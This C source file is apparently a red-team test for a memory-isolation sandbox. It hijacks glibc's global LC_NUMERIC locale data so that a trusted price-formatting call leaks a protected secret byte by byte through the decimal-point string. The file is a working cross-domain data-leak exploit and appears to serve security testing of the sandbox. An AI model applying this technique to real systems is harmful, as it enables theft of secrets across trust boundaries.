// Trusted snprintf("%.2f") copies a string untrusted code points at.
//
// The trusted TCB keeps glibc's per-category locale pointers from the
// init-time TLS image: _nl_current_LC_NUMERIC = &_nl_global_locale
// .__locales[LC_NUMERIC], a slot in libc's writable .data (untrusted).
// __printf_fp reads the decimal point through it (_NL_CURRENT(LC_NUMERIC,
// DECIMAL_POINT)) and copies strlen(decimal) bytes of it into the output.
// Untrusted code swaps in a fake LC_NUMERIC __locale_data whose
// DECIMAL_POINT string is the secret's address: an ordinary trusted entry
// that formats a price into the caller's (checked, untrusted) buffer then
// hands out the secret, one zero-terminated run per call (glibc 2.36
// layout: nstrings at 48, values[] at 56). (glibc asserts
// *decimal != 0: a run must not start at a zero byte.)
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/locale_decimal
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/locale_decimal
#define _GNU_SOURCE
#include <dlfcn.h>
#include <ctype.h>
#include <locale.h>
#include "common.h"

static cordon_entry g_price;

// An ordinary trusted entry: "<cents/100>" with two decimals.
static uint64_t e_price(uint64_t cents, uint64_t out, uint64_t outlen, uint64_t d, uint64_t e) {
  (void)d; (void)e;
  char buf[96];
  int l = snprintf(buf, sizeof buf, "%.2f", (double)cents / 100.0);
  if (l < 0 || outlen == 0 || !cordon_is_untrusted_range((void*)out, outlen)) return (uint64_t)-1;
  if ((uint64_t)l >= outlen) l = (int)outlen - 1;
  memcpy((void*)out, buf, (size_t)l);
  ((char*)out)[l] = 0;
  return (uint64_t)l;
}

static uint64_t g_fake[512];

// &_nl_global_locale (static in libc): this thread's __libc_tsd_LOCALE,
// near __libc_tsd_CTYPE_B in libc's TLS block, points at it; it holds the
// same 13 category pointers that duplocale(LC_GLOBAL_LOCALE) copies.
static void** find_global_locale(void) {
  void** dup = (void**)duplocale(LC_GLOBAL_LOCALE);
  uintptr_t* tls = (uintptr_t*)__ctype_b_loc();
  for (int i = -64; i < 64; i++) {
    Dl_info di;
    if (dladdr((void*)tls[i], &di) == 0 || strstr(di.dli_fname, "libc.so") == NULL) continue;
    void** cand = (void**)tls[i];
    if (((uintptr_t)cand & 7) != 0 || cand == dup) continue;
    if (memcmp(cand, dup, 13 * sizeof(void*)) == 0) return cand;
  }
  return NULL;
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_price, "price", &g_price);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  char out[96];
  cordon_call(g_price, 150, (uint64_t)out, sizeof out, 0, 0);
  printf("ordinary call: \"%s\"\n", out);

  void** global = find_global_locale();
  if (global == NULL) { printf("no _nl_global_locale\n"); return 1; }
  uint64_t* real = (uint64_t*)global[LC_NUMERIC];
  const uint32_t nstrings = *(uint32_t*)((char*)real + 48);
  printf("_nl_global_locale at %p, LC_NUMERIC data %p, %u strings, decimal \"%s\"\n", (void*)global,
         (void*)real, nstrings, (const char*)real[7]);
  if (nstrings == 0 || nstrings > 500) return 1;
  memcpy(g_fake, real, 56 + 8 * (size_t)nstrings);
  global[LC_NUMERIC] = g_fake;
  fflush(stdout);

  uint8_t got[32];
  for (int k = 0; k < 32;) {
    g_fake[7] = (uint64_t)(g_secret + k);  // values[DECIMAL_POINT].string
    memset(out, 0, sizeof out);
    cordon_call(g_price, 150, (uint64_t)out, sizeof out, 0, 0);
    size_t l = strlen(out);
    if (l < 3 || out[0] != '1' || memcmp(out + l - 2, "50", 2) != 0) { printf("odd output\n"); return 1; }
    for (size_t j = 1; j < l - 2 && k < 32; j++) got[k++] = (uint8_t)out[j];
    if (k < 32) got[k++] = 0;  // the byte strlen stopped at
  }
  global[LC_NUMERIC] = real;
  dump("read through trusted snprintf(\"%.2f\")", got, 32);
  printf("%s\n", fnv(got, 32) == want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  return 0;
}
